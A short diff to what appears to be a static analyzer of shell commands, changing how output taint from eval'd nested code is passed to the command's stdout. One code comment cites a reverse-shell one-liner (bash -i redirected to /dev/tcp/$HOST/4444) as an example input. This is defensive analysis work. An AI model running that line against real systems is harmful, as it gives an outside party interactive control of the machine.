@@ -1715,7 +1715,14 @@ CommandResult Runner::run(std::vector<Word> argv, const CommandIo& io, int depth
     effect(Eff::code_exec, tag, name, code.text, code.taint, code.ev,
            is_partial(code.text) ? 0u : static_cast<uint32_t>(kConstTarget));
     // Code with unknown parts runs as bash -c runs it (eval "bash -i >& /dev/tcp/$HOST/4444 0>&1").
-    if (!code.text.empty() && code.text != std::string(1, kUnknownPart)) nested_shell(code);
+    if (!code.text.empty() && code.text != std::string(1, kUnknownPart)) {
+      // What it prints is what this command prints (< <(eval "find \"\$ROOT\" -type f")).
+      ctx_.shell_printed_taint = 0;
+      ctx_.shell_printed_ev = -1;
+      nested_shell(code);
+      r.stdout_taint |= ctx_.shell_printed_taint;
+      if (r.stdout_ev < 0) r.stdout_ev = ctx_.shell_printed_ev;
+    }
     return r;
   }
   if (kind == "which") {
